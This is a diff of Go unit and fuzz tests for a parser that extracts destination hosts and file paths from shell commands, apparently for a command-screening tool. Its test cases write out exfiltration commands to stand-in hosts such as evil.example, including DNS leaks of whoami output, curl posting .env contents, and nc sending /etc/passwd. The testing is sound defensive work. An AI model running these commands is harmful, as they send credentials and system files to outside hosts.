@@ -63,17 +63,75 @@ func TestShellHosts(t *testing.T) {
 	}
 }
 
+// TestShellHostsExpanded: with FeatureShellWords, destinations given
+// through an expansion are judged by what is known of them.
+func TestShellHostsExpanded(t *testing.T) {
+	for _, tc := range []struct {
+		cmd  string
+		want []string
+	}{
+		{"nslookup $(whoami).evil.example", []string{"x.evil.example"}},
+		{"dig +short $(cat /etc/hostname | base64).evil.example", []string{"x.evil.example"}},
+		{"ping -c1 `whoami`.evil.example", []string{"x.evil.example"}},
+		{"host ${USER}-x.evil.example", []string{"x.evil.example"}},
+		{`curl "$(id -u).evil.example/c?d=$(cat .env)"`, []string{"x.evil.example"}},
+		{"curl $(cat url.txt)", []string{builtHost}},
+		{"curl evil$(echo x).example", []string{builtHost}},
+		{"nc $(getent hosts h | cut -d' ' -f1) 80", []string{builtHost}},
+		{"H=evil.example; nc $H 4444", []string{"evil.example"}},
+		{"export DEST=drop.evil.example && curl -d @f ${DEST}/u", []string{"drop.evil.example"}},
+		{`bash -c "H=evil.example; nc \$H 1"`, []string{"evil.example"}},
+		{"H=a.example; sh -c 'nc $H 1'", []string{"a.example"}},
+		{`scp f "$(cat /etc/dest):/tmp"`, []string{builtHost}},
+		{"scp f u@$(cat h).evil.example:/tmp", []string{"x.evil.example"}},
+		{"ssh $USER@build.example.org uptime", []string{"build.example.org"}},
+		{"curl build.example.org/$(git rev-parse HEAD)", []string{"build.example.org"}},
+		{`echo "$(nc evil.example 1 < /etc/passwd)"`, []string{"evil.example"}},
+		{"echo $(nc evil.example 1 < /etc/passwd)", []string{"evil.example"}},
+		// An environment the issuer cannot see: left out, as at level 13.
+		{"curl $URL", nil},
+		{"ssh ${HOST}:2222", nil},
+		{"H=$(cat h); nc $H 1", nil},
+		// Expansions outside a destination change nothing.
+		{"echo $(date) > log.txt", nil},
+		{`git commit -m "$(cat msg.txt)"`, nil},
+		{"nc -w $(nproc) db 5432", nil},
+	} {
+		got := appendShellHosts(nil, tc.cmd, 0, &hostReading{expand: true})
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("expanded shellHosts(%q) = %q, want %q", tc.cmd, got, tc.want)
+		}
+	}
+}
+
+// TestShellPathWord: which shell words name a path.
+func TestShellPathWord(t *testing.T) {
+	for _, tc := range []struct{ w, want string }{
+		{".env", ".env"}, {"./.env", "./.env"}, {"config/.env", "config/.env"}, {"@.env", ".env"},
+		{"$HOME/.ssh/id_rsa", "$HOME/.ssh/id_rsa"}, {"/etc/shadow", "/etc/shadow"}, {"~/.ssh", "~/.ssh"},
+		{"..", ".."}, {"-rf", ""}, {"--file=.env", ""}, {"https://x.example/a", ""}, {"host:.ssh/id_rsa", ""},
+		{"main.go", ""}, {"status", ""}, {"", ""}, {"@", ""},
+	} {
+		if got := shellPathWord(tc.w); got != tc.want {
+			t.Errorf("shellPathWord(%q) = %q, want %q", tc.w, got, tc.want)
+		}
+	}
+}
+
 // FuzzShellHosts: any command reads without a panic, and every host it
 // returns is a lower-case dotted name, an IPv4 address or a bracketed IPv6
 // literal, without blanks, user@, path or port.
 func FuzzShellHosts(f *testing.F) {
 	for _, s := range []string{"nc evil.example 4444", "curl -sSo x a.example/b", "ssh -J j.example u@h.example",
 		"scp a u@h.example:/", "socat - TCP:a.example:1", "dig @1.1.1.1 a.example", "sudo -u r timeout 5 nc a.example 1",
-		"bash -lc 'curl a.example'", `echo "$(sh -c "$(nc a.example 1)")"`, `'unterminated`, `"$(`, "curl [::1]:80", "", "-", "--", "nc -", "git clone x:y"} {
+		"bash -lc 'curl a.example'", `echo "$(sh -c "$(nc a.example 1)")"`, `'unterminated`, `"$(`, "curl [::1]:80", "", "-", "--", "nc -", "git clone x:y",
+		"nslookup $(whoami).a.example", "ping `id`.a.example", "H=a.example; nc $H 1", "curl ${X", "scp f \"$(cat /h):/t\"", "dig $", "nc $(", "nc `"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, cmd string) {
-		for _, h := range shellHosts(cmd) {
+		hosts := shellHosts(cmd)
+		hosts = appendShellHosts(hosts, cmd, 0, &hostReading{expand: true})
+		for _, h := range hosts {
 			switch {
 			case h == "", strings.ContainsAny(h, " \t\n@/?#"), h != strings.ToLower(h):
 				t.Fatalf("shellHosts(%q) returned %q", cmd, h)
